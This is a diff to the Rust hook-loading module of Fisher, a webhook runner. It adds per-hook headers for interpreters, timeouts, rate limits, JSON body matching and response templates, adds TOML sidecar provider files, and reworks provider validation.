@@ -15,20 +15,35 @@
 
 use std::fs::{read_dir, canonicalize, ReadDir, File};
 use std::path::{Path, PathBuf};
-use std::collections::{HashMap, VecDeque};
+use std::collections::{BTreeMap, HashMap, HashSet, VecDeque};
+use std::collections::hash_map::DefaultHasher;
+use std::hash::{Hash, Hasher};
 use std::os::unix::fs::PermissionsExt;
-use std::io::{BufReader, BufRead};
-use std::sync::{Arc, RwLock};
+use std::io::{BufReader, BufRead, Read};
+use std::sync::{Arc, RwLock, mpsc};
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::thread;
+use std::time::{Duration, Instant};
 
+use libc;
 use regex::Regex;
 use serde_json;
+use toml;
 
 use fisher_common::prelude::*;
 use fisher_common::state::{State, IdKind, UniqueId};
+use fisher_common::structs::{ConcurrencyLimit, Prerequisites};
 
-use providers::{Provider, StatusEvent, StatusEventKind};
+use providers::{Provider, ProviderRegistry, ProviderErrorPolicy};
+use providers::{StatusEvent, StatusEventKind};
 use requests::{Request, RequestType};
-use jobs::{Job, JobOutput};
+use jobs::{Job, JobOutput, KillPolicy};
+use job_logs;
+use web::WebRequest;
+use utils::Template;
+use native;
+use cgroups::Limits;
+use manifest::Manifest;
 
 
 lazy_static! {
@@ -36,8 +51,22 @@ lazy_static! {
         r"## Fisher: (.*)"
     ).unwrap();
     static ref PROVIDER_HEADER_RE: Regex = Regex::new(
-        r"## Fisher-([a-zA-Z]+): (.*)"
+        r"## Fisher-([a-zA-Z-]+): (.*)"
     ).unwrap();
+    static ref INTERPRETER_HEADER_RE: Regex = Regex::new(
+        r"^## Fisher-Interpreter: "
+    ).unwrap();
+    static ref DISABLED_HEADER_RE: Regex = Regex::new(
+        r"## Fisher-Disabled: (.*)"
+    ).unwrap();
+}
+
+
+#[derive(Debug, Deserialize)]
+#[serde(untagged)]
+enum MaxParallel {
+    Threads(u16),
+    Percentage(String),
 }
 
 
@@ -45,6 +74,7 @@ lazy_static! {
 struct Preferences {
     priority: Option<isize>,
     parallel: Option<bool>,
+    max_parallel: Option<MaxParallel>,
 }
 
 impl Preferences {
@@ -53,6 +83,7 @@ impl Preferences {
         Preferences {
             priority: None,
             parallel: None,
+            max_parallel: None,
         }
     }
 
@@ -65,12 +96,298 @@ impl Preferences {
     fn parallel(&self) -> bool {
         self.parallel.unwrap_or(true)
     }
+
+    fn max_parallel(&self) -> Result<Option<ConcurrencyLimit>> {
+        match self.max_parallel {
+            // No job of the hook would ever be started
+            Some(MaxParallel::Threads(0)) => Err(ErrorKind::InvalidInput(
+                "max_parallel must allow at least one job".into()
+            ).into()),
+            Some(MaxParallel::Threads(threads)) => {
+                Ok(Some(ConcurrencyLimit::Threads(threads)))
+            },
+            Some(MaxParallel::Percentage(ref raw)) => {
+                // The percentage must be in the "50%" format
+                let percentage = if raw.ends_with('%') {
+                    raw[..raw.len() - 1].parse::<f64>().ok()
+                } else {
+                    None
+                };
+
+                match percentage {
+                    Some(num) if num > 0.0 && num <= 100.0 => {
+                        Ok(Some(ConcurrencyLimit::Fraction(num / 100.0)))
+                    },
+                    _ => Err(ErrorKind::InvalidInput(format!(
+                        r#""{}" is not a valid max_parallel percentage"#, raw
+                    )).into()),
+                }
+            },
+            None => Ok(None),
+        }
+    }
+}
+
+
+#[derive(Debug, Deserialize)]
+struct Interpreter {
+    command: String,
+}
+
+
+#[derive(Debug, Deserialize)]
+struct SuccessCodes {
+    codes: Vec<i32>,
+}
+
+
+#[derive(Debug, Deserialize)]
+struct KillHeader {
+    signal: Option<String>,
+    grace: Option<u64>,
+}
+
+
+#[derive(Debug, Deserialize)]
+struct NeedsHeader {
+    hooks: Vec<String>,
+    within: Option<u64>,
+}
+
+
+#[derive(Debug, Deserialize)]
+struct LimitsHeader {
+    memory: Option<String>,
+    cpu: Option<String>,
+}
+
+
+#[derive(Debug, Deserialize)]
+struct PathHeader {
+    pattern: String,
+}
+
+
+#[derive(Debug, Deserialize)]
+struct MaxQueueAgeHeader {
+    seconds: u64,
+}
+
+
+#[derive(Debug, Deserialize)]
+struct TimeoutHeader {
+    seconds: u64,
+}
+
+
+/// How many requests an hook accepts every minute, optionally counting
+/// them separately for each source IP.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
+pub struct RateLimit {
+    pub per_minute: u32,
+    #[serde(default)]
+    pub per_source: bool,
+}
+
+
+#[derive(Debug, Deserialize)]
+struct BodySize {
+    min: Option<u64>,
+    max: Option<u64>,
+}
+
+impl BodySize {
+
+    fn contains(&self, size: u64) -> bool {
+        self.min.map(|min| size >= min).unwrap_or(true)
+            && self.max.map(|max| size <= max).unwrap_or(true)
+    }
+}
+
+
+#[derive(Debug, Deserialize)]
+struct ResponseHeader {
+    template: String,
+    #[serde(default)]
+    strict: bool,
+    content_type: Option<String>,
+}
+
+
+#[derive(Debug)]
+pub struct ResponseTemplate {
+    template: Template,
+    strict: bool,
+    content_type: Option<String>,
+}
+
+impl ResponseTemplate {
+
+    fn new(header: ResponseHeader) -> Result<Self> {
+        let template = Template::parse(&header.template)?;
+
+        // Check if all the keys are known
+        for key in template.keys() {
+            let known = key == "hook" || key == "job_id" || key == "log_id"
+                     || key.starts_with("param:");
+            if ! known {
+                return Err(ErrorKind::InvalidInput(format!(
+                    "unknown key in the response template: {}", key
+                )).into());
+            }
+        }
+
+        // The content type is sent as an header, so it must be valid
+        if let Some(ref content_type) = header.content_type {
+            if content_type.is_empty()
+               || content_type.chars().any(|c| c.is_control()) {
+                return Err(ErrorKind::InvalidInput(format!(
+                    "invalid content type of the response: {:?}",
+                    content_type,
+                )).into());
+            }
+        }
+
+        Ok(ResponseTemplate {
+            template: template,
+            strict: header.strict,
+            content_type: header.content_type,
+        })
+    }
+
+    pub fn content_type(&self) -> Option<&str> {
+        self.content_type.as_ref().map(|c| c.as_str())
+    }
+
+    pub fn render(&self, hook: &Hook, job_id: UniqueId, req: &WebRequest)
+                  -> Result<String> {
+        let mut values = HashMap::new();
+        values.insert("hook".to_string(), hook.name().to_string());
+        values.insert("job_id".to_string(), job_id.to_string());
+        values.insert("log_id".to_string(), job_logs::log_id(job_id));
+        for (key, value) in &req.params {
+            values.insert(format!("param:{}", key), value.clone());
+        }
+
+        self.template.render(&values, self.strict)
+    }
+}
+
+
+#[derive(Debug, Deserialize)]
+struct MatchHeader {
+    path: String,
+    equals: Option<serde_json::Value>,
+    matches: Option<String>,
+    exists: Option<bool>,
+}
+
+
+#[derive(Debug)]
+enum MatchCondition {
+    Equals(serde_json::Value),
+    Matches(Regex),
+    Exists(bool),
+}
+
+
+/// A condition on a field of the JSON body of the requests, which must be
+/// true for the hook to be executed. The field is selected with a path of
+/// keys and array indexes separated by dots, like `commits.0.id`.
+#[derive(Debug)]
+struct BodyMatch {
+    path: Vec<String>,
+    condition: MatchCondition,
+}
+
+impl BodyMatch {
+
+    fn new(header: MatchHeader) -> Result<Self> {
+        if header.path.is_empty() {
+            return Err(ErrorKind::InvalidInput(
+                "the path of the match can't be empty".into()
+            ).into());
+        }
+
+        let condition = match (header.equals, header.matches, header.exists) {
+            (Some(value), None, None) => MatchCondition::Equals(value),
+            (None, Some(pattern), None) => match Regex::new(&pattern) {
+                Ok(regex) => MatchCondition::Matches(regex),
+                Err(error) => return Err(ErrorKind::InvalidInput(
+                    format!("invalid match pattern: {}", error)
+                ).into()),
+            },
+            (None, None, Some(exists)) => MatchCondition::Exists(exists),
+            _ => return Err(ErrorKind::InvalidInput(
+                "the match needs one of equals, matches or exists".into()
+            ).into()),
+        };
+
+        Ok(BodyMatch {
+            path: header.path.split('.').map(String::from).collect(),
+            condition: condition,
+        })
+    }
+
+    fn lookup<'a>(&self, body: &'a serde_json::Value)
+                  -> Option<&'a serde_json::Value> {
+        let mut current = body;
+        for part in &self.path {
+            let next = match *current {
+                serde_json::Value::Object(ref map) => map.get(part),
+                serde_json::Value::Array(ref items) => {
+                    part.parse::<usize>().ok()
+                        .and_then(|index| items.get(index))
+                },
+                _ => None,
+            };
+
+            current = match next {
+                Some(next) => next,
+                None => return None,
+            };
+        }
+
+        Some(current)
+    }
+
+    fn matches(&self, body: &serde_json::Value) -> bool {
+        let value = self.lookup(body);
+        match self.condition {
+            MatchCondition::Equals(ref expected) => value == Some(expected),
+            // Only strings can match the regexes
+            MatchCondition::Matches(ref regex) => match value {
+                Some(&serde_json::Value::String(ref string)) => {
+                    regex.is_match(string)
+                },
+                _ => false,
+            },
+            MatchCondition::Exists(exists) => value.is_some() == exists,
+        }
+    }
 }
 
 
 struct LoadHeadersOutput {
     preferences: Preferences,
     providers: Vec<Arc<Provider>>,
+    interpreter: Option<Interpreter>,
+    success_codes: Option<SuccessCodes>,
+    kill: Option<KillHeader>,
+    response: Option<ResponseHeader>,
+    body_size: Option<BodySize>,
+    needs: Option<NeedsHeader>,
+    max_queue_age: Option<MaxQueueAgeHeader>,
+    timeout: Option<TimeoutHeader>,
+    limits: Option<LimitsHeader>,
+    path: Option<PathHeader>,
+    require_all: Option<bool>,
+    streaming_body: Option<bool>,
+    rate_limit: Option<RateLimit>,
+    labels: Option<Vec<String>>,
+    cost: Option<u16>,
+    matches: Vec<MatchHeader>,
+    fingerprint: u64,
 }
 
 
@@ -81,14 +398,184 @@ pub struct Hook {
     exec: String,
     priority: isize,
     parallel: bool,
+    max_parallel: Option<ConcurrencyLimit>,
+    interpreter: Option<String>,
+    success_codes: Vec<i32>,
+    kill_signal: Option<libc::c_int>,
+    kill_grace: Option<Duration>,
+    response: Option<ResponseTemplate>,
+    body_size: Option<BodySize>,
+    prerequisites: Option<Prerequisites>,
+    max_queue_age: Option<Duration>,
+    timeout: Option<Duration>,
+    limits: Option<Limits>,
+    path: Option<Regex>,
     providers: Vec<Arc<Provider>>,
+    require_all: bool,
+    streaming_body: bool,
+    rate_limit: Option<RateLimit>,
+    labels: Vec<String>,
+    cost: u16,
+    body_matches: Vec<BodyMatch>,
+    fingerprint: u64,
 }
 
 impl Hook {
 
-    fn load(name: String, exec: String, state: &Arc<State>)
-            -> Result<Hook> {
-        let headers = Hook::load_headers(&exec)?;
+    fn load(name: String, exec: String, state: &Arc<State>,
+            providers: &ProviderRegistry) -> Result<Hook> {
+        let headers = Hook::load_headers(&exec, providers)?;
+
+        let success_codes = match headers.success_codes {
+            Some(SuccessCodes { codes }) => {
+                if codes.is_empty() {
+                    let mut error: Error = ErrorKind::InvalidInput(
+                        "the list of success codes can't be empty".into()
+                    ).into();
+                    error.set_location(ErrorLocation::File(exec, None));
+                    return Err(error);
+                }
+                codes
+            },
+            None => vec![0],
+        };
+
+        let (kill_signal, kill_grace) = match headers.kill {
+            Some(KillHeader { signal, grace }) => {
+                let signal = match signal {
+                    Some(name) => match native::signal_by_name(&name) {
+                        Some(signal) => Some(signal),
+                        None => {
+                            let mut error: Error = ErrorKind::InvalidInput(
+                                format!("unknown signal: {}", name)
+                            ).into();
+                            error.set_location(ErrorLocation::File(
+                                exec, None,
+                            ));
+                            return Err(error);
+                        },
+                    },
+                    None => None,
+                };
+                (signal, grace.map(Duration::from_secs))
+            },
+            None => (None, None),
+        };
+
+        let invalid_body_size = match headers.body_size {
+            Some(BodySize { min: Some(min), max: Some(max) }) => min > max,
+            _ => false,
+        };
+        if invalid_body_size {
+            let mut error: Error = ErrorKind::InvalidInput(
+                "the minimum body size is bigger than the maximum".into()
+            ).into();
+            error.set_location(ErrorLocation::File(exec, None));
+            return Err(error);
+        }
+
+        if headers.rate_limit.map(|l| l.per_minute == 0).unwrap_or(false) {
+            let mut error: Error = ErrorKind::InvalidInput(
+                "the rate limit must allow at least one request".into()
+            ).into();
+            error.set_location(ErrorLocation::File(exec, None));
+            return Err(error);
+        }
+
+        if headers.cost == Some(0) {
+            let mut error: Error = ErrorKind::InvalidInput(
+                "the cost of the hook must be at least 1".into()
+            ).into();
+            error.set_location(ErrorLocation::File(exec, None));
+            return Err(error);
+        }
+
+        let max_parallel = match headers.preferences.max_parallel() {
+            Ok(max_parallel) => max_parallel,
+            Err(mut error) => {
+                error.set_location(ErrorLocation::File(exec, None));
+                return Err(error);
+            },
+        };
+
+        let response = match headers.response {
+            Some(header) => match ResponseTemplate::new(header) {
+                Ok(response) => Some(response),
+                Err(mut error) => {
+                    error.set_location(ErrorLocation::File(exec, None));
+                    return Err(error);
+                },
+            },
+            None => None,
+        };
+
+        let limits = match headers.limits {
+            Some(header) => match Limits::parse(
+                header.memory.as_ref().map(|m| m.as_str()),
+                header.cpu.as_ref().map(|c| c.as_str()),
+            ) {
+                Ok(limits) => Some(limits),
+                Err(mut error) => {
+                    error.set_location(ErrorLocation::File(exec, None));
+                    return Err(error);
+                },
+            },
+            None => None,
+        };
+
+        let path = match headers.path {
+            Some(PathHeader { pattern }) => match Regex::new(&pattern) {
+                Ok(regex) => Some(regex),
+                Err(error) => {
+                    let mut error: Error = ErrorKind::InvalidInput(
+                        format!("invalid path pattern: {}", error)
+                    ).into();
+                    error.set_location(ErrorLocation::File(exec, None));
+                    return Err(error);
+                },
+            },
+            None => None,
+        };
+
+        // The streamed bodies are never fully loaded, so they can't be
+        // validated by the providers which need all of their bytes
+        let streaming_body = headers.streaming_body.unwrap_or(false);
+        if streaming_body {
+            let incompatible = headers.providers.iter()
+                .find(|provider| provider.needs_full_body());
+            if let Some(provider) = incompatible {
+                let mut error: Error = ErrorKind::InvalidInput(format!(
+                    "the {} provider can't validate a streamed body",
+                    provider.name(),
+                )).into();
+                error.set_location(ErrorLocation::File(exec, None));
+                return Err(error);
+            }
+        }
+
+        // The custom providers aren't checked when they're created, and any
+        // other status would tell the clients the request failed
+        let invalid_status = headers.providers.iter()
+            .filter_map(|provider| provider.accepted_status())
+            .find(|status| *status < 200 || *status > 299);
+        if let Some(status) = invalid_status {
+            let mut error: Error = ErrorKind::InvalidInput(format!(
+                "the accepted status must be a 2xx status: {}", status,
+            )).into();
+            error.set_location(ErrorLocation::File(exec, None));
+            return Err(error);
+        }
+
+        let mut body_matches = Vec::with_capacity(headers.matches.len());
+        for header in headers.matches {
+            match BodyMatch::new(header) {
+                Ok(body_match) => body_matches.push(body_match),
+                Err(mut error) => {
+                    error.set_location(ErrorLocation::File(exec, None));
+                    return Err(error);
+                },
+            }
+        }
 
         Ok(Hook {
             id: state.next_id(IdKind::HookId),
@@ -96,11 +583,38 @@ impl Hook {
             exec: exec,
             priority: headers.preferences.priority(),
             parallel: headers.preferences.parallel(),
+            max_parallel: max_parallel,
+            interpreter: headers.interpreter.map(|i| i.command),
+            success_codes: success_codes,
+            kill_signal: kill_signal,
+            kill_grace: kill_grace,
+            response: response,
+            body_size: headers.body_size,
+            prerequisites: headers.needs.map(|needs| Prerequisites {
+                scripts: needs.hooks,
+                within: needs.within.map(Duration::from_secs),
+            }),
+            max_queue_age: headers.max_queue_age.map(|max_age| {
+                Duration::from_secs(max_age.seconds)
+            }),
+            timeout: headers.timeout.map(|timeout| {
+                Duration::from_secs(timeout.seconds)
+            }),
+            limits: limits,
+            path: path,
             providers: headers.providers,
+            require_all: headers.require_all.unwrap_or(false),
+            streaming_body: streaming_body,
+            rate_limit: headers.rate_limit,
+            labels: headers.labels.unwrap_or_else(Vec::new),
+            cost: headers.cost.unwrap_or(1),
+            body_matches: body_matches,
+            fingerprint: headers.fingerprint,
         })
     }
 
-    fn load_headers(file: &str) -> Result<LoadHeadersOutput> {
+    fn load_headers(file: &str, registry: &ProviderRegistry)
+                    -> Result<LoadHeadersOutput> {
         let f = File::open(file).unwrap();
         let reader = BufReader::new(f);
 
@@ -108,6 +622,23 @@ impl Hook {
         let mut line_number: u32 = 0;
         let mut providers = vec![];
         let mut preferences = None;
+        let mut interpreter = None;
+        let mut success_codes = None;
+        let mut kill = None;
+        let mut response = None;
+        let mut body_size = None;
+        let mut needs = None;
+        let mut max_queue_age = None;
+        let mut timeout = None;
+        let mut limits = None;
+        let mut path = None;
+        let mut require_all = None;
+        let mut streaming_body = None;
+        let mut rate_limit = None;
+        let mut labels = None;
+        let mut cost = None;
+        let mut matches = Vec::new();
+        let mut fingerprint = DefaultHasher::new();
         for line in reader.lines() {
             line_number += 1;
             content = line.unwrap();
@@ -116,6 +647,7 @@ impl Hook {
             if content == "" {
                 break;
             }
+            content.hash(&mut fingerprint);
 
             if preferences.is_none() {
                 if let Some(cap) = PREFERENCES_HEADER_RE.captures(&content) {
@@ -128,7 +660,99 @@ impl Hook {
                 let name = &cap[1];
                 let data = &cap[2];
 
-                match Provider::new(name, data) {
+                // Some headers configure the hook instead of adding a
+                // provider to it
+                macro_rules! parse_header {
+                    () => {
+                        match serde_json::from_str(data) {
+                            Ok(parsed) => Some(parsed),
+                            Err(error) => {
+                                let mut error: Error = error.into();
+                                error.set_location(ErrorLocation::File(
+                                    file.into(), Some(line_number),
+                                ));
+                                return Err(error);
+                            },
+                        }
+                    };
+                }
+                match name {
+                    "Interpreter" => {
+                        interpreter = parse_header!();
+                        continue;
+                    },
+                    "Success-Codes" => {
+                        success_codes = parse_header!();
+                        continue;
+                    },
+                    "Kill" => {
+                        kill = parse_header!();
+                        continue;
+                    },
+                    "Response" => {
+                        response = parse_header!();
+                        continue;
+                    },
+                    "Body-Size" => {
+                        body_size = parse_header!();
+                        continue;
+                    },
+                    "Needs" => {
+                        needs = parse_header!();
+                        continue;
+                    },
+                    "Max-Queue-Age" => {
+                        max_queue_age = parse_header!();
+                        continue;
+                    },
+                    "Timeout" => {
+                        timeout = parse_header!();
+                        continue;
+                    },
+                    "Limits" => {
+                        limits = parse_header!();
+                        continue;
+                    },
+                    "Path" => {
+                        path = parse_header!();
+                        continue;
+                    },
+                    "Require-All" => {
+                        require_all = parse_header!();
+                        continue;
+                    },
+                    "Streaming-Body" => {
+                        streaming_body = parse_header!();
+                        continue;
+                    },
+                    "RateLimit" => {
+                        rate_limit = parse_header!();
+                        continue;
+                    },
+                    "Labels" => {
+                        labels = parse_header!();
+                        continue;
+                    },
+                    "Cost" => {
+                        cost = parse_header!();
+                        continue;
+                    },
+                    // Every match header adds a condition
+                    "Match" => {
+                        let header: Option<MatchHeader> = parse_header!();
+                        matches.extend(header);
+                        continue;
+                    },
+                    // The disabled hooks aren't even loaded, so the header
+                    // is only validated here
+                    "Disabled" => {
+                        let _: Option<bool> = parse_header!();
+                        continue;
+                    },
+                    _ => {},
+                }
+
+                match Provider::new(name, data, registry) {
                     Ok(provider) => {
                         providers.push(Arc::new(provider));
                     },
@@ -142,28 +766,212 @@ impl Hook {
             }
         }
 
+        // Providers defined in the sidecar file take precedence over the
+        // headers with the same name
+        for provider in Hook::load_sidecar(file, registry, &mut fingerprint)? {
+            let position = providers.iter().position(|existing| {
+                existing.name() == provider.name()
+            });
+            providers.retain(|existing| existing.name() != provider.name());
+
+            if let Some(position) = position {
+                providers.insert(position, provider);
+            } else {
+                providers.push(provider);
+            }
+        }
+
         Ok(LoadHeadersOutput {
             preferences: if let Some(pref) = preferences { pref } else {
                 Preferences::empty()
             },
             providers: providers,
+            interpreter: interpreter,
+            success_codes: success_codes,
+            kill: kill,
+            response: response,
+            body_size: body_size,
+            needs: needs,
+            max_queue_age: max_queue_age,
+            timeout: timeout,
+            limits: limits,
+            path: path,
+            require_all: require_all,
+            streaming_body: streaming_body,
+            rate_limit: rate_limit,
+            labels: labels,
+            cost: cost,
+            matches: matches,
+            fingerprint: fingerprint.finish(),
         })
     }
 
-    pub fn validate(&self, req: &Request)
+    /// Load the providers defined in the TOML file next to the hook, for
+    /// example `example.toml` for `example.sh`. Each top-level table
+    /// configures the provider with its name, case-insensitively.
+    fn load_sidecar(file: &str, registry: &ProviderRegistry,
+                    fingerprint: &mut DefaultHasher)
+                    -> Result<Vec<Arc<Provider>>> {
+        let path = match sidecar_path(Path::new(file)) {
+            Some(path) => path,
+            None => return Ok(vec![]),
+        };
+
+        let location = path.to_str().unwrap().to_string();
+        let located = |mut error: Error| {
+            error.set_location(ErrorLocation::File(location.clone(), None));
+            error
+        };
+
+        let mut content = String::new();
+        File::open(&path)?.read_to_string(&mut content)?;
+        content.hash(fingerprint);
+
+        let tables: BTreeMap<String, toml::Value> = match toml::from_str(
+            &content
+        ) {
+            Ok(tables) => tables,
+            Err(error) => {
+                return Err(located(ErrorKind::InvalidInput(
+                    format!("invalid TOML: {}", error)
+                ).into()));
+            },
+        };
+
+        let mut providers = Vec::with_capacity(tables.len());
+        for (key, value) in tables {
+            if ! value.is_table() {
+                return Err(located(ErrorKind::InvalidInput(format!(
+                    "`{}` should be a table with the provider configuration",
+                    key
+                )).into()));
+            }
+
+            // Custom providers are looked up with the name as written
+            let name = match Provider::builtin_name(&key) {
+                Some(name) => name.to_string(),
+                None => key,
+            };
+
+            let config = serde_json::to_string(&value).map_err(|error| {
+                located(error.into())
+            })?;
+            match Provider::new(&name, &config, registry) {
+                Ok(provider) => providers.push(Arc::new(provider)),
+                Err(error) => return Err(located(error)),
+            }
+        }
+
+        Ok(providers)
+    }
+
+    /// Validate the request with the providers of the hook, returning the
+    /// provider the job should get its environment from.
+    ///
+    /// The providers are checked in the order their headers appear in. If
+    /// one of them detects a ping the request is a ping, and that provider
+    /// is returned. Otherwise the request is executed if any provider accepts
+    /// it, or if every one of them does with `## Fisher-Require-All: true`,
+    /// and the first provider which accepted it is returned.
+    ///
+    /// Web requests which would be executed are skipped if their JSON body
+    /// doesn't match all the `## Fisher-Match` headers of the hook.
+    pub fn validate(&self, req: &Request, on_error: ProviderErrorPolicy)
                    -> (RequestType, Option<Arc<Provider>>) {
-        if ! self.providers.is_empty() {
-            // Check every provider if they're present
-            for provider in &self.providers {
-                let result = provider.validate(req);
+        let (request_type, provider, _) = self.validate_explained(
+            req, on_error,
+        );
+        (request_type, provider)
+    }
 
-                if result != RequestType::Invalid {
-                    return (result, Some(provider.clone()))
-                }
+    /// Validate the request like `validate`, also returning why the
+    /// providers rejected it if the request is invalid.
+    pub fn validate_explained(&self, req: &Request,
+                              on_error: ProviderErrorPolicy)
+                              -> (RequestType, Option<Arc<Provider>>,
+                                  Option<String>) {
+        let (request_type, provider, reason) = self.validate_providers(
+            req, on_error,
+        );
+
+        // The requests not matching the conditions of the hook are skipped
+        let skip = request_type == RequestType::ExecuteHook
+                   && ! self.body_matches(req);
+        if skip {
+            return (RequestType::Skip, provider, None);
+        }
+
+        (request_type, provider, reason)
+    }
+
+    fn validate_providers(&self, req: &Request, on_error: ProviderErrorPolicy)
+                          -> (RequestType, Option<Arc<Provider>>,
+                              Option<String>) {
+        // Hooks without providers accept every request
+        if self.providers.is_empty() {
+            return (RequestType::ExecuteHook, None, None);
+        }
+
+        let mut accepted_by = None;
+        let mut rejections = Vec::new();
+        for provider in &self.providers {
+            let (result, failure) = match provider.validate(req) {
+                Ok(result) => (result, None),
+                Err(mut error) => {
+                    let failure = format!(
+                        "the {} provider failed: {}", provider.name(), error,
+                    );
+
+                    error.set_location(
+                        ErrorLocation::HookProcessing(self.name.clone())
+                    );
+                    error.pretty_print();
+
+                    (on_error.request_type(), Some(failure))
+                },
+            };
+
+            match result {
+                RequestType::Ping => {
+                    return (RequestType::Ping, Some(provider.clone()), None);
+                },
+                RequestType::ExecuteHook => {
+                    if accepted_by.is_none() {
+                        accepted_by = Some(provider.clone());
+                    }
+                },
+                // Skipping is decided by the hook, not by the providers
+                RequestType::Invalid | RequestType::Skip => {
+                    rejections.push(failure.unwrap_or_else(|| format!(
+                        "rejected by the {} provider", provider.name(),
+                    )));
+                },
             }
-            (RequestType::Invalid, None)
-        } else {
-            (RequestType::ExecuteHook, None)
+        }
+
+        let rejected = ! rejections.is_empty();
+        match accepted_by {
+            Some(ref provider) if ! (rejected && self.require_all) => {
+                (RequestType::ExecuteHook, Some(provider.clone()), None)
+            },
+            _ => (RequestType::Invalid, None, Some(rejections.join(", "))),
+        }
+    }
+
+    fn body_matches(&self, req: &Request) -> bool {
+        if self.body_matches.is_empty() {
+            return true;
+        }
+
+        // Only the web requests have a body to match
+        let web = match req.web() {
+            Ok(web) => web,
+            Err(..) => return true,
+        };
+
+        match web.json_body() {
+            Ok(body) => self.body_matches.iter().all(|m| m.matches(&body)),
+            Err(..) => false,
         }
     }
 
@@ -171,42 +979,154 @@ impl Hook {
         &self.name
     }
 
+    /// Check if the hook was changed since the other one was loaded, either
+    /// because the path or the headers are different.
+    fn changed_from(&self, other: &Hook) -> bool {
+        self.exec != other.exec || self.fingerprint != other.fingerprint
+    }
+
     pub fn exec(&self) -> &str {
         &self.exec
     }
 
-    pub fn priority(&self) -> isize {
-        self.priority
+    /// Describe the hook without revealing the configuration of its
+    /// providers. The path is included only if `with_exec` is true.
+    pub fn summary(&self, with_exec: bool) -> HookSummary {
+        HookSummary {
+            name: self.name.clone(),
+            providers: self.providers.iter()
+                .map(|provider| provider.name().to_string())
+                .collect(),
+            exec: if with_exec { Some(self.exec.clone()) } else { None },
+        }
     }
-}
 
-impl ScriptTrait for Hook {
-    type Id = UniqueId;
-
-    fn id(&self) -> UniqueId {
-        self.id
+    pub fn interpreter(&self) -> Option<&str> {
+        self.interpreter.as_ref().map(|i| i.as_str())
     }
 
-    fn can_be_parallel(&self) -> bool {
-        self.parallel
-    }
-}
+    /// Return the variables captured from the path, if the hook claims it
+    /// with its path pattern.
+    pub fn match_path(&self, path: &str) -> Option<HashMap<String, String>> {
+        let regex = match self.path {
+            Some(ref regex) => regex,
+            None => return None,
+        };
 
+        regex.captures(path).map(|captures| {
+            regex.capture_names().filter_map(|name| name).filter_map(|name| {
+                captures.name(name).map(|value| {
+                    (name.to_uppercase(), value.as_str().to_string())
+                })
+            }).collect()
+        })
+    }
 
-pub struct HooksIter {
-    inner: Arc<RwLock<HooksInner>>,
-    count: usize,
-}
+    pub fn limits(&self) -> Option<&Limits> {
+        self.limits.as_ref()
+    }
 
-impl HooksIter {
+    pub fn response(&self) -> Option<&ResponseTemplate> {
+        self.response.as_ref()
+    }
 
-    fn new(inner: Arc<RwLock<HooksInner>>) -> Self {
-        HooksIter {
-            inner,
-            count: 0,
+    pub fn is_success(&self, exit_code: Option<i32>) -> bool {
+        match exit_code {
+            Some(code) => self.success_codes.contains(&code),
+            // The process was killed by a signal
+            None => false,
         }
     }
-}
+
+    pub fn rate_limit(&self) -> Option<RateLimit> {
+        self.rate_limit
+    }
+
+    pub fn has_label(&self, label: &str) -> bool {
+        self.labels.iter().any(|existing| existing == label)
+    }
+
+    /// Check if the body of the requests should be streamed to disk,
+    /// without keeping it in memory.
+    pub fn streaming_body(&self) -> bool {
+        self.streaming_body
+    }
+
+    pub fn accepts_body_size(&self, size: u64) -> bool {
+        self.body_size.as_ref().map(|range| range.contains(size))
+            .unwrap_or(true)
+    }
+
+    pub fn kill_policy(&self, default: &KillPolicy) -> KillPolicy {
+        KillPolicy {
+            signal: self.kill_signal.unwrap_or(default.signal),
+            grace: self.kill_grace.unwrap_or(default.grace),
+        }
+    }
+
+    /// Get how long the jobs of this hook can run before being killed,
+    /// falling back to the default. A timeout of zero seconds in the hook
+    /// disables it.
+    pub fn timeout(&self, default: Option<Duration>) -> Option<Duration> {
+        match self.timeout {
+            Some(timeout) if timeout == Duration::from_secs(0) => None,
+            Some(timeout) => Some(timeout),
+            None => default,
+        }
+    }
+
+    pub fn priority(&self) -> isize {
+        self.priority
+    }
+}
+
+impl ScriptTrait for Hook {
+    type Id = UniqueId;
+
+    fn id(&self) -> UniqueId {
+        self.id
+    }
+
+    fn can_be_parallel(&self) -> bool {
+        self.parallel
+    }
+
+    fn max_parallel(&self) -> Option<ConcurrencyLimit> {
+        self.max_parallel
+    }
+
+    fn prerequisites(&self) -> Option<Prerequisites> {
+        self.prerequisites.clone()
+    }
+
+    fn max_queue_age(&self) -> Option<Duration> {
+        self.max_queue_age
+    }
+
+    fn labels(&self) -> Vec<String> {
+        self.labels.clone()
+    }
+
+    fn cost(&self) -> u16 {
+        self.cost
+    }
+}
+
+
+pub struct HooksIter {
+    inner: Arc<RwLock<HooksInner>>,
+    count: usize,
+}
+
+impl HooksIter {
+
+    fn new(inner: Arc<RwLock<HooksInner>>) -> Self {
+        HooksIter {
+            inner,
+            count: 0,
+        }
+    }
+}
 
 impl Iterator for HooksIter {
     type Item = Arc<Hook>;
@@ -246,15 +1166,18 @@ impl Iterator for HookNamesIter {
 
 pub struct StatusJobsIter {
     inner: Arc<RwLock<HooksInner>>,
+    state: Arc<State>,
     event: StatusEvent,
     count: usize,
 }
 
 impl StatusJobsIter {
 
-    fn new(inner: Arc<RwLock<HooksInner>>, event: StatusEvent) -> Self {
+    fn new(inner: Arc<RwLock<HooksInner>>, state: Arc<State>,
+           event: StatusEvent) -> Self {
         StatusJobsIter {
             inner,
+            state,
             event,
             count: 0
         }
@@ -265,25 +1188,34 @@ impl Iterator for StatusJobsIter {
     type Item = Job;
 
     fn next(&mut self) -> Option<Self::Item> {
-        self.count += 1;
-
         let inner = match self.inner.read() {
             Ok(guard) => guard,
             Err(poisoned) => poisoned.into_inner(),
         };
 
-        if let Some(all) = inner.status_hooks.get(&self.event.kind()) {
-            if let Some(hp) = all.get(self.count - 1).cloned() {
-                Some(Job::new(
-                    hp.hook, Some(hp.provider),
-                    Request::Status(self.event.clone()),
-                ))
-            } else {
-                None
+        let all = match inner.status_hooks.get(&self.event.kind()) {
+            Some(all) => all,
+            None => return None,
+        };
+
+        let request = Request::Status(self.event.clone());
+        while let Some(hp) = all.get(self.count).cloned() {
+            self.count += 1;
+
+            // Skip the hooks which aren't interested in this job, like the
+            // ones filtering on other hooks or exit codes
+            match hp.provider.validate(&request) {
+                Ok(RequestType::ExecuteHook) => {},
+                _ => continue,
             }
-        } else {
-            None
+
+            return Some(Job::new(
+                self.state.next_id(IdKind::JobId), hp.hook,
+                Some(hp.provider), request,
+            ));
         }
+
+        None
     }
 }
 
